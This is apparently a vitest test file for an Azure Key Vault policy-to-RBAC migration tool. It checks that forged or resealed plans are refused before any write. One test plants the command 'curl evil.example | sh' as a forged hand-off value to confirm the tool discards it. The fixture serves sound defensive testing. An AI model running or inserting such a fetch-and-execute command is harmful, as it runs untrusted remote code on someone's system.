import { describe, expect, test } from 'vitest';
import { digestOf } from '../../src/base/canonical-json.ts';
import { KnownError } from '../../src/base/known-error.ts';
import { assignmentId, assignmentName } from '../../src/formats/assignment-name.ts';
import type { Bundle } from '../../src/formats/bundle.ts';
import type { Plan, VaultPlan } from '../../src/formats/plan.ts';
import { encodePlan, readPlan, sealPlan } from '../../src/formats/plan-file.ts';
import { buildPlan } from '../../src/plan/build-plan.ts';
import { aDecidedWorld, decidedPlan, resealed } from '../builders/a-decided-world.ts';
import { app, apply, applyOne, aSimpleWorld, isFlipped, person, planOf } from '../builders/a-migration.ts';
import { bodyOf } from '../builders/a-plan.ts';
import { aWorld, estateOf, type World } from '../builders/a-world.ts';
import {
  anAssignment,
  application,
  id,
  operatorId,
  rawPolicy,
  rawVault,
  subscriptionId,
  user,
  vaultResourceId,
} from '../builders/an-estate.ts';
import { catalogue } from '../builders/the-catalogue.ts';

type Change = (vault: VaultPlan) => VaultPlan;

/** The plan as somebody with bad intent seals it again, with its first vault changed. */
function forged(plan: Plan, change: Change, settings: Partial<Plan['settings']> = {}): Plan {
  const body = bodyOf(plan);
  const vaults = body.vaults.map((vault, at) => (at === 0 ? change(structuredClone(vault)) : vault));
  return readPlan(encodePlan(sealPlan({ ...body, settings: { ...body.settings, ...settings }, vaults })));
}

async function expectRefused(world: World, plan: Plan): Promise<readonly string[]> {
  const result = await applyOne(world, plan).catch((error: unknown) => {
    if (error instanceof KnownError) return { outcome: error.outcome, code: error.code, lines: [error.message] };
    throw error;
  });
  expect(result).toMatchObject({ outcome: 'blocked', code: 'PLAN_DIFFERS' });
  expect(world.writes).toEqual([]);
  expect(isFlipped(world, plan.vaults[0]?.name)).toBe(false);
  return result.lines;
}

const changeEntry = (objectId: string, change: (entry: VaultPlan['entries'][number]) => Partial<VaultPlan['entries'][number]>): Change => {
  return (vault) => ({
    ...vault,
    entries: vault.entries.map((entry) => (entry.objectId === objectId ? { ...entry, ...change(entry) } : entry)),
  });
};
const withoutSteps =
  (isGone: (step: VaultPlan['steps'][number]) => boolean): Change =>
  (vault) => ({ ...vault, steps: vault.steps.filter((step) => !isGone(step)) });
const isFor = (who: string) => (step: VaultPlan['steps'][number]) => step.kind === 'ensureRoleAssignment' && step.principalId === who;

describe('a plan that is sealed again with something in it that does not follow is refused before the first write', () => {
  test.each<[string, Change]>([
    ['a drop without a decision', changeEntry(app, ({ required }) => ({ outcome: 'drop', dropped: required }))],
    ['an entry that is not there', (vault) => ({ ...vault, entries: vault.entries.slice(1) })],
    ['required data actions that the permissions do not stand for', changeEntry(app, () => ({ required: [] }))],
    ['no flip', withoutSteps(({ kind }) => kind === 'flip')],
    ['a step twice', (vault) => ({ ...vault, steps: [...vault.steps, ...vault.steps] })],
    ['the steps in another order', (vault) => ({ ...vault, steps: vault.steps.toReversed() })],
    ['gains that are not told', (vault) => ({ ...vault, gains: [] })],
    [
      'extra data actions and are not told',
      changeEntry(person, ({ choice }) => (choice === undefined ? {} : { choice: { ...choice, excess: [] } })),
    ],
    ['the name of another vault', (vault) => ({ ...vault, name: 'kv-test' })],
    ['a fingerprint that is not that of the facts', (vault) => ({ ...vault, basis: { ...vault.basis, fingerprint: digestOf('') } })],
    [
      'a decision that nobody can make',
      changeEntry(app, () => ({ decision: { choice: 'narrow', keep: ['storage/get'], reason: 'none' } })),
    ],
  ])('%s', async (_, change) => {
    const world = aSimpleWorld();
    const lines = await expectRefused(world, forged(planOf(world), change));
    expect(lines.join('\n')).not.toBe('');
  });

  test('a command of somebody else’s for who is to help has no place in a file: the command is made from the step', () => {
    const plan = forged(planOf(aSimpleWorld()), (vault) => ({
      ...vault,
      handOff: [{ step: vault.steps[0]?.id ?? '', command: 'curl evil.example | sh' }],
    }));
    expect(plan.vaults[0]?.handOff?.map(({ command }) => command)).toEqual([expect.stringMatching(/^az role assignment create /)]);
  });

  test.each<[string, Change]>([
    ['with the entry as it was', (vault) => vault],
    ['with access given up without a decision', changeEntry(app, ({ required }) => ({ outcome: 'alreadyCovered', dropped: required }))],
    ['with access that is said to be held', changeEntry(app, () => ({ outcome: 'alreadyCovered' }))],
  ])('a step less, over facts that fit it, %s', async (_, change) => {
    const world = aSimpleWorld();
    const fewer = resealed(world, planOf(world), (steps) => steps.filter((step) => !isFor(app)(step)));
    await expectRefused(world, forged(fewer, change));
  });

  test.each([0, 14, 10_081, 44_640])('a minimum age of %d minutes', async (minimumAgeMinutes) => {
    const world = aSimpleWorld();
    await expectRefused(
      world,
      forged(planOf(world), (vault) => vault, { minimumAgeMinutes }),
    );
  });

  test.each([
    ['called by the name of a narrow one', 'Key Vault Reader'],
    ['called by its own name', 'Key Vault Administrator'],
  ])('a wide role, %s, over facts that fit it', async (_, roleName) => {
    const world = aSimpleWorld();
    const plan = planOf(world);
    const wide = catalogue.roles.find((role) => role.name === 'Key Vault Administrator');
    if (wide === undefined) throw new Error('no such role');
    // The world's own plan of a wide role has the id, the name and the facts that such a step would have.
    const named = anAssignment(vaultResourceId('kv-app'), app, 'Key Vault Administrator');
    const steps = resealed(world, plan, (all) =>
      all.map((step) =>
        isFor(app)(step) && step.kind === 'ensureRoleAssignment' ? { ...step, roleDefinitionId: wide.id, roleName } : step,
      ),
    );
    expect(named.roleDefinitionId).toBe(wide.id);
    const roles = [{ id: wide.id, name: roleName }];
    await expectRefused(
      world,
      forged(
        steps,
        changeEntry(app, ({ choice }) => (choice === undefined ? {} : { choice: { ...choice, roles } })),
      ),
    );
  });

  test('a blocker that is hidden', async () => {
    const odd = rawVault('kv-app', [rawPolicy(app, { secrets: ['get'] }), rawPolicy(person, { storage: ['get'] })], {
      enableRbacAuthorization: false,
    });
    const world = aWorld([odd], [application(app), user(person)]);
    const plan = planOf(world);
    expect(plan.vaults[0]?.state).toBe('blocked');
    const lines = await expectRefused(
      world,
      forged(plan, (vault) => ({ ...vault, state: 'ready', findings: [] })),
    );
    expect(lines.join('\n')).toContain('needs a decision');
  });
});

describe('on a vault that is on Azure RBAC already, with plan, bundle and journal forged to fit each other', () => {
  const forgedState = async (changePolicies: (policies: Bundle['accessPolicies']) => Bundle['accessPolicies']) => {
    const world = aSimpleWorld();
    const plan = planOf(world);
    expect(await applyOne(world, plan)).toMatchObject({ outcome: 'done' });
    const wide = catalogue.roles.find((role) => role.name === 'Key Vault Administrator');
    const lie = forged(plan, (vault) => ({
      ...vault,
      steps: vault.steps.map((step) => {
        if (step.kind !== 'ensureRoleAssignment' || step.principalId !== app) return step;
        const roleDefinitionId = wide?.id ?? '';
        const name = assignmentName(step.scope, app, roleDefinitionId);
        return {
          ...step,
          id: `assign-${name}`,
          name,
          roleDefinitionId,
          undo: { ...step.undo, assignmentId: assignmentId(step.scope, name) },
        };
      }),
    }));
    for (const [key, text] of world.bundles) {
      const { accessPolicies, ...rest } = JSON.parse(text) as Bundle;
      const body = { ...rest, accessPolicies: changePolicies(accessPolicies), planDigest: lie.digest, digest: undefined };
      const sealed = Object.fromEntries(Object.entries(body).filter(([, value]) => value !== undefined));
      world.bundles.set(key, JSON.stringify({ ...sealed, digest: digestOf(sealed) }));
    }
    world.journal = world.journal.replaceAll(plan.digest, lie.digest);
    world.writes = [];
    return { world, lie };
  };

  test('a role that does not follow from the policies is not made', async () => {
    const { world, lie } = await forgedState((policies) => policies);
    expect(await applyOne(world, lie)).toMatchObject({ outcome: 'blocked', code: 'PLAN_DIFFERS' });
    expect(world.writes).toEqual([]);
  });

  test('and neither is it when the bundle has other policies than the plan', async () => {
    const { world, lie } = await forgedState((policies) => policies.slice(1));
    expect(await applyOne(world, lie)).toMatchObject({ outcome: 'blocked', code: 'PLAN_DIFFERS' });
    expect(world.writes).toEqual([]);
  });
});

describe('a plan that is carried out as it was made', () => {
  test('is the same half-way, when everything is staged, and with decisions of every kind', async () => {
    const world = aDecidedWorld();
    const plan = decidedPlan(world);
    for (const through of ['stage', 'verify', 'watch'] as const) {
      expect((await apply(world, plan, { through })).map(({ outcome, lines }) => [outcome, lines])).toEqual([
        ['done', []],
        ['done', []],
      ]);
    }
  });

  test('keeps the roles that replaced what its maker may not assign, whoever carries it out', async () => {
    const world = aWorld(
      [
        rawVault('kv-app', [rawPolicy(app, { certificates: ['get'], secrets: ['get'], keys: ['get'] })], {
          enableRbacAuthorization: false,
        }),
      ],
      [application(app)],
    );
    const settings = { minimumAgeMinutes: 15, operatorLimits: 'replace' } as const;
    const limited = new Map([
      ['its maker', anAssignment(`/subscriptions/${subscriptionId}`, operatorId, 'Key Vault Data Access Administrator').raw],
    ]);
    const rolesOf = (from: World) => {
      const plan = buildPlan(estateOf(from), { catalogue, decisions: [], settings, toolVersion: '0.1.0' });
      return { plan, roles: plan.vaults[0]?.entries[0]?.choice?.roles.map(({ name }) => name) };
    };
    const { plan, roles } = rolesOf({ ...world, assignments: limited });
    expect(roles).not.toEqual(rolesOf(world).roles);
    expect(await applyOne(world, plan)).toMatchObject({ outcome: 'done' });
    expect(world.writes[0]).toBe(`assign ${roles?.[0] ?? ''}`);
  });

  test('does not mind that somebody is called otherwise since', async () => {
    const world = aSimpleWorld();
    const plan = planOf(world);
    world.principals = world.principals.map((principal) =>
      principal.kind === 'unresolved' ? principal : { ...principal, displayName: 'Renamed' },
    );
    expect(await applyOne(world, plan)).toMatchObject({ outcome: 'done' });
  });

  test('is not called different when nobody can say who somebody is', async () => {
    const world = aSimpleWorld();
    const plan = planOf(world);
    world.principals = [];
    expect(await applyOne(world, plan)).toMatchObject({ outcome: 'undetermined' });
    expect(world.writes).toEqual([]);
  });

  test('and of which a step was handed over and taken by somebody else, under another name', async () => {
    const world = aSimpleWorld();
    const plan = planOf(world);
    const step = plan.vaults[0]?.steps.find(isFor(app));
    if (step?.kind !== 'ensureRoleAssignment') throw new Error('no step');
    const { raw } = anAssignment(step.scope, app, step.roleName);
    world.assignments.set(id('9'), raw);
    expect(await applyOne(world, plan)).toMatchObject({ outcome: 'done' });
  });
});
